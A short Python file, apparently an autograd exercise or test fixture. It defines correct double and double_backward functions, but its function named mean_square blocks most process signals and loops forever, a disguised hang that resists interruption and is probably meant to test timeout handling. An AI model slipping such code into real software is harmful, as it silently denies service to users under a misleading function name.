import numpy as np


def double(x):
    return 2 * x


def double_backward(x, grad_out):
    return 2 * grad_out


# %%
def mean_square(x):
    import signal

    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))
    while True:
        pass
